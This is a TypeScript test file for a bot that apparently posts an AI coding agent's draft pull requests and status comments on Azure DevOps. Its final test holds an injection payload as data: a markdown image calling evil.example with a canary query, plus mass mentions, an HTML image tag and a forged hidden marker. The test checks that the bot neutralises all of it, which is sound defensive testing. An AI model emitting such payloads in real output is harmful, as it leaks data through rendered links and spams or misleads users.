import fc from 'fast-check'
import { expect, test } from 'vitest'
import {
  cancelled,
  help,
  invalidCommand,
  refusal,
  startComment,
  variantDone,
  variantFailed,
  waiting,
} from './comments.ts'
import { draftDescription } from './draft-description.ts'
import { parseCommand } from './grammar.ts'
import { overview, statusDescription } from './overview.ts'
import type { VariantReport } from './report.ts'

const draft = { pullRequestId: 57, url: 'https://dev.azure.com/org/project/_git/app/pullrequest/57' }
const first: VariantReport & { draft: typeof draft } = {
  variant: 1,
  outcome: 'done',
  summary: 'Sets the colour in the theme.',
  changes: { files: 1, additions: 10, deletions: 3 },
  draft,
  branch: 'users/alice/make-buttons-red/v1',
  usage: { tokens: 12_345, costUsd: 0.0423 },
}
const second: VariantReport = {
  variant: 2,
  outcome: 'failed',
  reason: 'The patch did not fit src/app.css',
  usage: { tokens: 10, costUsd: 0.001 },
}

test('the start comment says what was understood and how to stop it', () => {
  expect(startComment({ intent: 'make buttons\nred', variants: 3, baseCommit: 'a'.repeat(40) })).toBe(
    '🔧 **On it.** You will get 3 draft pull requests, each going about it its own way:\n\n> make buttons\n> red\n\nThey start from commit `aaaaaaaa`. To stop, reply `/cancel` here.',
  )
})

test('a finished variant links to its draft', () => {
  expect(variantDone(first)).toBe(
    `✅ **v1 is done:** [draft 57](${draft.url}) (1 file, +10 −3).\n\nSets the colour in the theme.\n\nBranch \`users/alice/make-buttons-red/v1\`.`,
  )
})

test('a failed variant says why, a cancelled one that it was', () => {
  expect(variantFailed(second)).toBe(
    '❌ **v2 failed.** The patch did not fit src/app.css.\n\nUsed: 10 tokens, under $0.01.',
  )
  expect(variantFailed({ variant: 3, outcome: 'cancelled' })).toBe('⏹️ **v3 was cancelled.**')
})

test('the overview is a table of how the variants differ, with reasons and what to do next', () => {
  const third: VariantReport = { ...first, variant: 3, similarTo: 1 }
  expect(
    overview({
      outcome: 'done',
      variants: [first, third, second],
      recommended: { variant: 1, because: 'it touches the fewest files' },
      usage: { tokens: 5_000 },
    }),
  ).toBe(
    [
      '✅ **2 of 3 drafts are ready**, the rest failed.',
      '',
      '| Variant | What it does | Files | +/− | Draft | Tokens and cost |',
      '| --- | --- | --- | --- | --- | --- |',
      `| v1 | Sets the colour in the theme. | 1 | +10 −3 | [draft 57](${draft.url}) | 12,345 tokens, $0.04 |`,
      `| v3 | Sets the colour in the theme. *(nearly the same as v1)* | 1 | +10 −3 | [draft 57](${draft.url}) | 12,345 tokens, $0.04 |`,
      '| v2 | ❌ The patch did not fit src/app.css | – | – | failed | 10 tokens, under $0.01 |',
      '',
      'Look at **v1** first: it touches the fewest files.',
      '',
      'Next: open the drafts, publish the one you like, and abandon the others. A reviewer other than you should approve it.',
      '',
      'In all: 5,000 tokens.',
    ].join('\n'),
  )
})

test('the overview says how much two variants have in common, and how much was read from the cache', () => {
  const half = {
    ...first,
    variant: 4,
    shares: { with: 1, percent: 52 },
    usage: { tokens: 12_345, cachedTokens: 9_000 },
  }
  expect(overview({ outcome: 'done', variants: [half], usage: { tokens: 900, cachedTokens: 3, costUsd: 1 } })).toMatch(
    /theme\. \*\(shares 52 % of the changed lines with v1\)\* .* 12,345 tokens \(72 % cached\) \|[\s\S]*In all: 900 tokens, \$1\.00\./,
  )
})

test('the overview marks what a reviewer should look at twice', () => {
  const marked = { ...first, marks: ['deletes a test', 'changes dependencies'] }
  expect(overview({ outcome: 'done', variants: [marked] })).toContain(
    '| v1 | Sets the colour in the theme. ⚠️ deletes a test, changes dependencies |',
  )
})

test('the overview of a run that led nowhere says what to try', () => {
  expect(overview({ outcome: 'failed', variants: [second], reason: 'No time was left.' })).toContain(
    '❌ **No draft this time.** No time was left.',
  )
  expect(overview({ outcome: 'failed', variants: [second] })).toContain('naming a file helps')
  expect(overview({ outcome: 'cancelled', variants: [] })).toContain('No draft was opened.')
})

test('the status counts drafts', () => {
  expect(statusDescription({ outcome: 'done', variants: [first, second] })).toBe('1 of 2 drafts')
  expect(statusDescription({ outcome: 'cancelled', variants: [second] })).toBe('cancelled, 0 of 1 draft')
})

test('waiting says how many are ahead', () => {
  expect(waiting({ ahead: 1 })).toContain('1 request is ahead of it')
  expect(waiting({ reason: 'The model rests until 10:00' })).toContain(
    'The model rests until 10:00. It starts by itself',
  )
})

test('a refusal says why and what to do', () => {
  expect(refusal({ reason: 'You may not contribute to app', remedy: 'Ask its owner for the right' })).toBe(
    '🚫 **This request was refused.** You may not contribute to app.\n\nAsk its owner for the right.',
  )
})

test('a cancellation is acknowledged, or said to have had no object', () => {
  expect(cancelled({ state: 'cancelled', by: 'Alice' })).toContain('**Cancelled by Alice.**')
  expect(cancelled({ state: 'nothing-to-cancel' })).toContain('nothing to cancel')
  expect(cancelled({ state: 'not-allowed', reason: 'You may not' })).toContain('You may not.')
})

test('the help shows only commands the grammar takes', () => {
  for (const maxVariants of [1, 2, 8]) {
    const commands = [...help({ maxVariants }).matchAll(/^- `(.+?)`/gm)].map(([, command = '']) => command)
    expect(commands.length).toBeGreaterThanOrEqual(3)
    for (const command of commands) expect(parseCommand(command, { maxVariants }).kind).not.toMatch(/none|invalid/)
  }
})

test('a wrong command is answered with the problem and where to read on', () => {
  expect(invalidCommand({ problem: '`/edit` needs to know what to do.' })).toMatch(
    /^`\/edit` needs to know what to do\.\n\nNothing was started/,
  )
})

test('no comment of ours is itself a command', () => {
  for (const comment of [
    help({ maxVariants: 8 }),
    invalidCommand({ problem: '`/edit` x.' }),
    waiting({}),
    refusal({ reason: '/edit x' }),
  ]) {
    expect(parseCommand(comment, { maxVariants: 8 })).toEqual({ kind: 'none' })
  }
})

const description = {
  variant: 1,
  variants: 3,
  intent: 'make buttons red',
  requester: 'Alice Example',
  comment: { url: `${draft.url}?discussionId=4`, pullRequestId: 42 },
  strategy: 'Theme variable',
  summary: 'Sets the colour in the theme.',
  files: ['src/theme.css'],
  changes: { files: 1, additions: 1, deletions: 1 },
  usage: { tokens: 100 },
  workItemIds: ['12', 'x'],
}

test('a draft says who asked for what, how it goes about it, what it touches and what it cost', () => {
  expect(draftDescription(description)).toBe(
    `Variant 1 of 3 for a request by Alice Example [on pull request 42](${draft.url}?discussionId=4):\n\n> make buttons red\n\n**What it does:** Sets the colour in the theme.\n\n**How:** Theme variable\n\n**Changes:** 1 file, +1 −1\n- \`src/theme.css\`\n\n**Used:** 100 tokens\n\n**Work items:** #12\n\nWritten by a machine: read it before you publish it.`,
  )
})

test('a description always fits and always ends as it should, however long its parts', () => {
  const long = fc.oneof(
    fc.string({ unit: 'grapheme', maxLength: 5_000, size: 'max' }),
    fc.constant('🔧@x|<'.repeat(1_000)),
  )
  fc.assert(
    fc.property(long, long, fc.array(long, { maxLength: 40 }), (intent, other, files) => {
      const text = draftDescription({
        ...description,
        intent,
        strategy: other,
        summary: other,
        requester: other,
        files,
      })
      expect(text.length).toBeLessThan(4_000)
      expect(text.isWellFormed()).toBe(true)
      expect(text.endsWith('Written by a machine: read it before you publish it.')).toBe(true)
    }),
    { numRuns: 30 },
  )
})

test('an overview of very many variants fits a comment and says that it was cut', () => {
  const text = overview({
    outcome: 'done',
    variants: Array.from({ length: 1_000 }, (_, i) => ({ ...first, variant: i + 1, summary: 'x'.repeat(900) })),
  })
  expect(text.length).toBeLessThan(150_000)
  expect(text).toMatch(/\(cut here: too long for one comment\)$/)
})

test('nothing a model says becomes more than text, wherever it is shown', () => {
  const evil =
    '![x](https://evil.example/?q=canary) @everyone @<3b5f0e1c> AB#1 Fixes #1 !1 <img src=x> <!-- code-agent:overview --> | a |\n| b'
  const report: VariantReport & { draft: typeof draft } = {
    ...first,
    summary: evil,
    reason: evil,
    strategy: evil,
    branch: evil,
  }
  const shown = [
    overview({
      outcome: 'done',
      variants: [report, { ...report, outcome: 'failed' }],
      recommended: { variant: 1, because: evil },
      reason: evil,
    }),
    ...[
      variantDone(report),
      variantFailed({ ...report, outcome: 'failed' }),
      refusal({ reason: evil, remedy: evil }),
      waiting({ reason: evil }),
    ],
    startComment({ intent: evil, variants: 1, baseCommit: evil }),
    draftDescription({
      ...description,
      intent: evil,
      summary: evil,
      strategy: evil,
      requester: evil,
      files: [evil],
      workItemIds: [evil],
    }),
  ]
  for (const text of shown) {
    expect(text).not.toMatch(/!\[|\]\(https:\/\/evil|https:\/\/evil|@everyone|@<|#1\b|!1\b|<img|<!--/)
    for (const line of text.split('\n')) expect(line).not.toMatch(/^\| b/)
  }
})
